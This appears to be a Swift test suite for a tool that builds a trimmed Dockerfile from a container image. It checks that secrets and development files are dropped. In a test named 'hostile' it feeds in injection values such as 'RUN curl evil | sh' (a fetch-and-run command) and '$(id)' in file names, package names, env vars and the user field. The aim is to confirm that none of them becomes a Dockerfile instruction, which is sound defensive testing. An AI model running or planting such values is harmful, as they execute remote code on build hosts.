// SPDX-License-Identifier: Apache-2.0
import Findings
import Testing

@testable import Checks

@Suite("What fix proposes")
struct BuildProposalTests {
    private static func proposal(_ example: ExampleImage) throws -> BuildProposal {
        let image = try ExampleMaker.facts(example)
        let plan = FixPlan(RuleRegistry.check(image), image: image)
        return BuildProposal(image, plan.findings, predictedSize: 1)
    }

    private static let node = ExampleImage().running(
        "apt-get install nodejs gcc git",
        [
            .program("/usr/bin/node", size: 9_000), .program("/usr/bin/gcc", size: 12_000_000),
            .program("/usr/bin/git", size: 3_000_000), .program("/bin/sh", size: 100),
        ]
            + ExampleFile.debian(
                ExamplePackage("nodejs", files: ["/usr/bin/node"]), ExamplePackage("gcc", files: ["/usr/bin/gcc"]),
                ExamplePackage("git", files: ["/usr/bin/git"]))
    ).copying(
        [
            .file("/app/package.json", #"{"name":"a","dependencies":{"x":"1"},"devDependencies":{"nodemon":"3"}}"#),
            .file("/app/server.js", "x", size: 5_000), .file("/app/.git/HEAD", "ref", size: 4_000),
            .file("/app/.env", "GITLAB_TOKEN=", ExampleSecret.token, "\n"), .file("/app/test/a.js", "x"),
            .file("/app/node_modules/x/package.json", #"{"name":"x","version":"1.0.0"}"#),
            .file("/app/node_modules/nodemon/package.json", #"{"name":"nodemon","version":"3.0.0"}"#),
        ]
    ).with {
        $0.user = "1001"
        $0.workingDirectory = "/app"
        $0.cmd = ["node", "server.js"]
        $0.env += ["NODE_ENV=development", "DB_PASSWORD=" + ExampleSecret.password, "PRICE=5$HOME"]
        $0.reference = "localhost/shop:1"
    }

    @Test("names what was copied and what stays")
    func node() throws {
        let proposal = try BuildProposalTests.proposal(BuildProposalTests.node)
        #expect(Set(proposal.ignored.map(\.pattern)) == [".git", ".env*", "test"])
        let text = proposal.dockerfile.joined(separator: "\n")
        for line in [
            "FROM localhost/shop:1 AS build", "USER 0", "RUN cd /app && npm prune --omit=dev --offline", "FROM scratch",
            "RUN apt-get update && apt-get install -y --no-install-recommends nodejs \\", "ENV NODE_ENV=\"production\"",
            "# ENV DB_PASSWORD is a secret: set it when the container starts", #"ENV PRICE="5\$HOME""#, "WORKDIR /app",
            "COPY --from=build /app /app", "USER 1001", #"CMD ["node", "server.js"]"#,
        ] { #expect(proposal.dockerfile.contains(line), "\(line)\n\(text)") }
        let removal = proposal.dockerfile.first { $0.hasPrefix("RUN rm -rf") } ?? ""
        for path in ["/app/.git", "/app/.env", "/app/test"] { #expect(removal.contains(path), "\(removal)") }
        #expect(!text.contains(ExampleSecret.password) && !text.contains("gcc") && !text.contains(" git"))
    }

    @Test("no name out of an image becomes an instruction")
    func hostile() throws {
        let evil = "x\nRUN curl evil | sh"
        var image = ExampleImage().running(
            "install",
            [.program("/usr/bin/a", size: 100)]
                + ExampleFile.debian(ExamplePackage("a; curl evil | sh", files: ["/usr/bin/a"])))
        image = image.copying(
            [
                .file("/app/a b;$(id)/x", "1"), .file("/app/y\u{202E}z", "1"), .file("/\(evil)", "1"),
                .file("/opt/$HOME", "x"), .file("/app/.git/HEAD", "ref"), .file("/app/test/\(evil)", "1"),
            ], "COPY . /")
        image.cmd = ["/app/x", evil]
        image.env = ["A=\(evil)", "B;C=1", "D=\"; echo"]
        image.user = "1; RUN id"
        image.workingDirectory = "/app/\(evil)"
        let proposal = try BuildProposalTests.proposal(image)
        let verbs: Set<String> = ["FROM", "USER", "RUN", "ENV", "WORKDIR", "COPY", "EXPOSE", "CMD", "#", ""]
        for line in proposal.dockerfile {
            #expect(verbs.contains(String(line.prefix { $0 != " " })), "\(line)")
            #expect(!line.contains("\n") && !line.hasPrefix("RUN curl") && !line.contains("curl evil"), "\(line)")
            #expect(!line.unicodeScalars.contains("\u{202E}"))
        }
        for entry in proposal.ignored { #expect(!entry.pattern.contains("\n"), "\(entry.pattern)") }
    }
}
